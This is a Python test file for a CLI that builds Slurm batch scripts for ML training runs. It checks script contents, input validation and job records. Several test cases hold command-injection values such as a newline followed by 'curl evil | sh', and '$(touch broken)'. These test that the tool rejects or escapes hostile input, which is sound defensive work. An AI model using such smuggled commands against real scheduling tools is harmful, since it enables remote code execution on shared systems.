"""`neuscale submit` before a job exists: the script is correct, and errors are reported at once."""

import json
import subprocess
import sys
from pathlib import Path

import pytest

from neuscale.slurm.jobs import submitted_jobs
from neuscale.slurm.script import TEMPLATE, slurm_time
from stand_in import make_programs

from .conftest import WORDS, Submit, check

CHECKOUT = Path(__file__).parents[2]


@pytest.mark.parametrize("name", ["train.sbatch", "prepare.sbatch"])
def test_the_tracked_scripts_are_sound(name: str) -> None:
    check(CHECKOUT / "slurm" / name)


def test_one_script_for_both_ways() -> None:
    assert (CHECKOUT / "slurm" / "train.sbatch").read_text() == TEMPLATE.read_text()


@pytest.mark.parametrize(
    "words",
    [
        ["--gpus=4", "--nodes=2", "--cpus=32", "--time=08:00:00", "--mem=64G", "-p", "a b", "-A", "gts-x"],
        ["--processes=2", "--time=1h", "optim.lr=1e-3,3e-4", "run.seed=0,1,2"],
        ["--gpus=0", "--venv", "run.name=mine"],
        ["--gpus=2", "--gpu-type=H100", "model.weights=/a b/$(touch broken)/w.safetensors"],
    ],
)
def test_a_dry_run_prints_a_sound_script_and_leaves_nothing(
    words: list[str], submit: Submit, tmp_path: Path
) -> None:
    code, script, said = submit(*WORDS, *words, "--dry-run")
    assert code == 0, said
    path = tmp_path / "bin" / "script"
    path.write_text(script)
    check(path)
    assert {path.name for path in tmp_path.iterdir()} == {"bin"}


def test_what_is_asked_for_stands_in_the_script(submit: Submit, tmp_path: Path) -> None:
    words = [
        "--gpus=4",
        "--nodes=2",
        "--cpus=32",
        "--time=2-12:00:00",
        "--lead=10m",
        "-A",
        "gts-x",
        "run.name=mine",
    ]
    _, script, _ = submit(*WORDS, *words, "--gpu-type=H100", "--dry-run")
    lines = script.splitlines()
    for option in (
        *("job-name=mine", "nodes=2", "ntasks-per-node=1", "gpus-per-node=H100:4", "cpus-per-task=32"),
        *("time=2-12:00:00", "signal=B:USR2@600", "requeue", "open-mode=append", "account=gts-x"),
        f"output={tmp_path}/scratch/neuscale/runs/jobs/%j.log",
    ):
        assert f"#SBATCH --{option}" in lines, option
    assert "words=(experiment=quickstart 'model.weights=it'\"'\"'s mine' run.name=mine)" in lines
    assert "processes=(--gpus 4)" in lines
    assert "#SBATCH --partition" not in script
    assert "#SBATCH --array" not in script


def test_a_sweep_is_an_array_whose_tasks_are_its_runs(submit: Submit, tmp_path: Path) -> None:
    """The overrides of each task are read by running the script's own `case`."""
    _, script, _ = submit(
        "experiment=quickstart", "optim.lr=1e-3,3e-4", "run.name=x", "--gpus=0", "--dry-run"
    )
    assert "#SBATCH --array=0-1" in script.splitlines()
    case = script[script.index("case $SLURM_ARRAY_TASK_ID") : script.index("esac") + 5]
    for task, lr in enumerate(("0.001", "0.0003")):
        done = subprocess.run(
            ["/bin/bash", "-c", f'{case} printf "%s\\n" "${{words[@]}}"'],
            env={"SLURM_ARRAY_TASK_ID": str(task)},
            capture_output=True,
            text=True,
            check=True,
        )
        assert done.stdout.split() == ["experiment=quickstart", f"optim.lr={lr}", f"run.name=x-lr{lr}"]


def test_the_site_file_says_where_and_with_what(submit: Submit, tmp_path: Path) -> None:
    (tmp_path / "slurm").mkdir()
    (tmp_path / "image.sif").write_text("")
    (tmp_path / "slurm" / "site.env").write_text(
        "echo loaded\nSBATCH_PARTITION=a100\nSCRATCH=/big/$(echo me)\nNEUSCALE_SIF=image.sif\n"
    )
    code, script, said = submit("experiment=quickstart", "--dry-run")
    assert code == 0, said
    assert "#SBATCH --partition=a100" in script
    assert "#SBATCH --output=/big/me/neuscale/runs/jobs/%j.log" in script
    assert f"sif={tmp_path}/image.sif" in script.splitlines()
    assert f"site={tmp_path}/slurm/site.env" in script.splitlines()
    assert "fashion_mnist is not prepared in /big/me/neuscale/data" in said
    assert "#SBATCH --partition=h100" in submit("experiment=quickstart", "-p", "h100", "--dry-run")[1]


@pytest.mark.parametrize(
    ("words", "says"),
    [
        ([], "there is no sbatch here"),
        (["--sif", "nope.sif"], "nope.sif: there is no such image."),
        (["--sif", "nope.sif", "--venv"], "contradict each other"),
        (["--site", "nope.env"], "nope.env: there is no such file"),
        (["--time=9m"], "--time 9m is too short: 5m of it are kept for saving"),
        (["--time=30s", "--lead=5s"], "Slurm counts in minutes"),
        (["--time=soon"], "--time soon: expected a time like"),
        (["--lead=soon"], "--lead soon: expected a time like"),
        (["--nodes=2", "--gpus=3"], "train.global_batch_size=128 does not divide into 6 processes"),
        (["optim.lr=1e-3,fast"], "optim.lr=fast: expected a number"),
        (["optim.lrr=1"], "Did you mean 'optim.lr'?"),
        (["run.name=a/b"], "is not a valid folder name"),
        (["--gpus=1", "--processes=2"], "contradict each other"),
    ],
)
def test_bad_input_is_said_before_anything_is_submitted(
    submit: Submit, tmp_path: Path, words: list[str], says: str
) -> None:
    code, script, said = submit("experiment=quickstart", *words)
    assert code == 2
    assert says in " ".join(said.split())
    assert not script
    assert {path.name for path in tmp_path.iterdir()} == {"bin"}


def test_without_a_scratch_folder_there_is_no_place(submit: Submit, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("SCRATCH")
    code, _, said = submit("experiment=quickstart", "--dry-run")
    assert code == 2
    assert "$SCRATCH is not set" in said
    assert "slurm/site.env" in said


def test_a_site_file_that_bash_cannot_read_is_named(submit: Submit, tmp_path: Path) -> None:
    (tmp_path / "site.env").write_text("SCRATCH=(\n")
    code, _, said = submit("experiment=quickstart", "--site", "site.env", "--dry-run")
    assert code == 2
    assert "site.env: bash cannot read it" in said


def test_records_that_cannot_be_read_are_passed_over(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NEUSCALE_RUNS", str(tmp_path))
    assert submitted_jobs() == []
    (tmp_path / "jobs").mkdir()
    (tmp_path / "jobs" / "1.json").write_text("{")
    (tmp_path / "jobs" / "2.json").write_text('{"job": "2", "of a later version": 1}')
    assert submitted_jobs() == []


@pytest.mark.parametrize(
    ("seconds", "text"),
    [
        (60, "00:01:00"),
        (5400, "01:30:00"),
        (86399, "23:59:59"),
        (86400, "1-00:00:00"),
        (216061, "2-12:01:01"),
    ],
)
def test_a_time_limit_as_slurm_reads_it(seconds: float, text: str) -> None:
    assert slurm_time(seconds) == text


def test_a_submitted_job_is_recorded_and_the_way_to_it_is_said(
    submit: Submit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    runs = tmp_path / "scratch" / "neuscale" / "runs"
    monkeypatch.setenv("NEUSCALE_RUNS", str(runs))
    monkeypatch.setenv("PATH", f"{tmp_path}/bin:/usr/bin:/bin")
    make_programs(
        tmp_path / "bin", monkeypatch, sinfo="echo 'cpu*|1-00:00:00|2|64'", sbatch="cat >script; echo 77"
    )
    words = ["experiment=quickstart", "optim.lr=1e-3,3e-4", "run.name=x", "--gpus=2", "--venv"]
    code, script, said = submit(*words)
    assert code == 0, said
    assert (tmp_path / "script").read_text() == script == (runs / "jobs" / "77.sbatch").read_text()
    record = json.loads((runs / "jobs" / "77.json").read_text())
    assert (record["names"], record["gpus"]) == (["x-lr0.001", "x-lr0.0003"], 2)
    assert record["log"] == f"{runs}/jobs/77-%a.log"
    told = " ".join(said.split())
    assert "job 77, 2 runs in" in told
    assert "squeue --jobs=77" in told and "scancel 77" in told and "77-0.log" in told
    assert "submit … run.name=x-lr0.001" in told


def test_folders_that_the_site_file_names_go_before_the_scratch_folder(
    submit: Submit, tmp_path: Path
) -> None:
    (tmp_path / "site.env").write_text("NEUSCALE_RUNS=/r\nNEUSCALE_DATA=/d\nSCRATCH=/s\n")
    words = ["experiment=quickstart", "--site", "site.env", "--gpus=0", "--dry-run"]
    _, script, said = submit(*words)
    assert "#SBATCH --output=/r/jobs/%j.log" in script.splitlines()
    assert "fashion_mnist is not prepared in /d," in " ".join(said.split())
    (tmp_path / "site.env").write_text("SCRATCH=/s\n")
    _, script, said = submit(*words)
    assert "#SBATCH --output=/s/neuscale/runs/jobs/%j.log" in script.splitlines()
    assert "fashion_mnist is not prepared in /s/neuscale/data," in " ".join(said.split())


@pytest.mark.parametrize(
    ("name", "options"),
    [
        (
            "train.sbatch",
            "job-name=neuscale output=%x-%j.log nodes=1 ntasks-per-node=1 gpus-per-node=1 cpus-per-task=4"
            " time=08:00:00 signal=B:USR2@300 requeue open-mode=append",
        ),
        (
            "prepare.sbatch",
            "job-name=neuscale-prepare output=%x-%j.log nodes=1 cpus-per-task=4 time=02:00:00",
        ),
    ],
)
def test_what_the_tracked_scripts_ask_for(name: str, options: str) -> None:
    """The save signal goes to the script (B:), five minutes before the end; restarts append to the log."""
    lines = (CHECKOUT / "slurm" / name).read_text().splitlines()
    assert [line[10:] for line in lines if line.startswith("#SBATCH --")] == options.split()


@pytest.mark.parametrize("character", ["\n", "\r", "\x1b", "\x00", "\x85", "\u2028"])
@pytest.mark.parametrize(
    "words",
    [
        ["--partition", "short{}curl evil | sh"],
        ["--account", "me{}curl evil | sh"],
        ["--mem", "4G{}curl evil | sh"],
        ["--gpu-type", "h100{}curl evil | sh"],
        ["model.weights=a{}curl evil | sh"],
        ["model.weights=a,b{}curl evil | sh"],
        ["run.name=a{}curl evil | sh"],
    ],
    ids=lambda words: words[0].partition("=")[0],
)
def test_nothing_that_is_asked_for_begins_a_line_of_the_script(
    submit: Submit, words: list[str], character: str
) -> None:
    code, out, said = submit("--dry-run", "--venv", "data.name=pets", *(w.format(character) for w in words))
    assert code == 2 and out == ""
    assert "evil" in said and "not foreseen" not in said
    if character != "\n":
        assert character not in said


def test_the_command_in_the_script_s_head_stays_one_comment(
    submit: Submit, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys, "argv", ["neuscale", "submit", "x\ntouch evil\x1b[2J"])
    code, out, _ = submit("--dry-run", "--venv", "data.name=pets")
    assert code == 0
    assert "\n#     neuscale submit 'x\\x0atouch evil\\x1b[2J'\n" in out
